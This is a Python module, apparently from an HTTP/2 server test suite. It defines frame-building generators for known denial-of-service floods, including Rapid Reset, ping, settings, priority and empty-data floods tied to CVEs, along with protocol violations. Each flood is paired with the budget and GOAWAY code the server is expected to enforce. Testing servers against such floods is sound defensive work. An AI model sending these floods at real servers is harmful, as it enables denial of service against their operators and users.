"""The attacks of one connection, each a named function that makes its n-th unit of octets.

A unit is what one count of a budget pays for. Stream 1 is an open call of the attacker's own,
which must still be answered when the budget is used up and not passed.
"""

import dataclasses
import typing

from frames import (
    ACK, ENHANCE_YOUR_CALM, FRAME_SIZE_ERROR, GOAWAY, INITIAL_WINDOW_SIZE, PADDED, PING, PRIORITY,
    PRIORITY_UPDATE, PROTOCOL_ERROR, STREAM_CLOSED, data, frame, headers, number, ping, request,
    reset, settings, window_update)

BLOCK = request()


@dataclasses.dataclass(frozen=True)
class Vector:
    unit: typing.Callable[[int], bytes]
    # Units that are served, and units of the flood.
    limit: int
    total: int
    # The code of the last GOAWAY.
    code: int = ENHANCE_YOUR_CALM
    # Whether our SETTINGS stay unacknowledged.
    acknowledges: bool = True

    @property
    def name(self):
        return self.unit.__name__

    def octets(self, begin, end):
        return b"".join(map(self.unit, range(begin, end)))


RESETS, CONTROLS, VIOLATIONS = [], [], []


def vector(group, **numbers):
    def adding(unit):
        group.append(Vector(unit, **numbers))
        return unit
    return adding


def stream(index):
    """The streams after the attacker's own."""
    return 3 + 2 * index


# T02 and T03: resets, asked for and provoked.

@vector(RESETS, limit=528, total=20_000)
def rapid_reset(index):
    """CVE-2023-44487. 400, and 128 once it was told to go."""
    return headers(stream(index), BLOCK) + reset(stream(index))


@vector(RESETS, limit=100, total=20_000)
def window_overflow_on_an_open_call(index):
    """CVE-2025-8671, as the next two."""
    return headers(stream(index), BLOCK) + window_update(stream(index), 0x7fff_ffff)


@vector(RESETS, limit=100, total=20_000)
def forbidden_field(index):
    return headers(stream(index), request(extra=[("connection", "close")]), end=True)


@vector(RESETS, limit=100, total=20_000)
def field_with_a_line_break(index):
    return headers(stream(index), request(extra=[("x", "a\r\nb")]), end=True)


@vector(RESETS, limit=100, total=20_000)
def content_length_mismatch(index):
    return headers(stream(index), request(extra=[("content-length", "1")]), end=True)


@vector(RESETS, limit=100, total=20_000)
def pseudo_field_in_trailers(index):
    trailers = headers(stream(index), BLOCK, end=True)
    return headers(stream(index), BLOCK) + trailers


# T03: what would be a reset elsewhere and is the end of the connection here.

@vector(VIOLATIONS, limit=0, total=1_000, code=PROTOCOL_ERROR)
def window_update_of_zero(index):
    return headers(stream(index), BLOCK) + window_update(stream(index), 0)


@vector(VIOLATIONS, limit=0, total=1_000, code=STREAM_CLOSED)
def data_after_the_end(index):
    return headers(stream(index), BLOCK, end=True) + data(stream(index), b"x")


@vector(VIOLATIONS, limit=0, total=1_000, code=STREAM_CLOSED)
def headers_after_the_end(index):
    return headers(stream(index), BLOCK, end=True) + headers(stream(index), BLOCK)


@vector(VIOLATIONS, limit=0, total=1_000, code=FRAME_SIZE_ERROR)
def priority_of_four_octets(index):
    return headers(stream(index), BLOCK) + frame(PRIORITY, 0, stream(index), b"\0\0\0\0")


@vector(VIOLATIONS, limit=0, total=1_000, code=PROTOCOL_ERROR)
def dependency_on_itself(index):
    # END_HEADERS and PRIORITY.
    return frame(1, 0x24, stream(index), number(stream(index)) + b"\x0f" + BLOCK)


# T05: control frames.

@vector(CONTROLS, limit=3, total=100_000)
def pings(index):
    """CVE-2019-9512. Idle PINGs strike out (gRPC A8) long before the budget of 20 in 10 s."""
    return ping(index)


@vector(CONTROLS, limit=9, total=100_000)
def setting_changes(index):
    """CVE-2019-9515. The preface's own is the first of ten."""
    return settings((INITIAL_WINDOW_SIZE, 65_535 + index % 2))


@vector(CONTROLS, limit=200, total=200_000)
def priorities(index):
    """CVE-2019-9513."""
    return frame(PRIORITY, 0, 1, b"\0\0\0\0\x0f")


@vector(CONTROLS, limit=200, total=200_000)
def priority_updates(index):
    return frame(PRIORITY_UPDATE, 0, 0, number(1) + b"u=1")


@vector(CONTROLS, limit=10, total=200_000)
def empty_data(index):
    """CVE-2019-9518."""
    return data(1)


@vector(CONTROLS, limit=9, total=200_000)
def window_updates(index):
    return window_update(0, 1)


@vector(CONTROLS, limit=9, total=200_000)
def window_updates_of_a_stream(index):
    return window_update(1, 1)


# Floods that no table names, of which too many must end as well.
NAMELESS = []


@vector(NAMELESS, limit=1, total=200_000)
def unknown_frames(index):
    return frame(0xfa, 0, 0, b"x")


@vector(NAMELESS, limit=1, total=200_000)
def ping_answers_to_nothing(index):
    return frame(PING, ACK, 0, bytes(8))


@vector(NAMELESS, limit=1, total=200_000)
def goaways(index):
    return frame(GOAWAY, 0, 0, number(0) + number(0))


@vector(NAMELESS, limit=1, total=200_000)
def empty_data_of_a_closed_stream(index):
    return (headers(3, BLOCK) + reset(3) if index == 0 else b"") + data(3)


@vector(NAMELESS, limit=1, total=20_000)
def padding_without_data(index):
    return frame(0, PADDED, 1, b"\xff" + bytes(255))


@vector(NAMELESS, limit=1, total=200_000)
def resets_of_the_next_stream(index):
    """As of a call that is cancelled before it was sent."""
    return reset(3)


@vector(NAMELESS, limit=1, total=200_000)
def resets_of_a_closed_stream(index):
    return (headers(3, BLOCK) if index == 0 else b"") + reset(3)


@vector(NAMELESS, limit=1, total=20_000, acknowledges=False)
def refused_streams(index):
    """Past 128 streams, while our SETTINGS are not acknowledged."""
    return headers(stream(index), BLOCK)
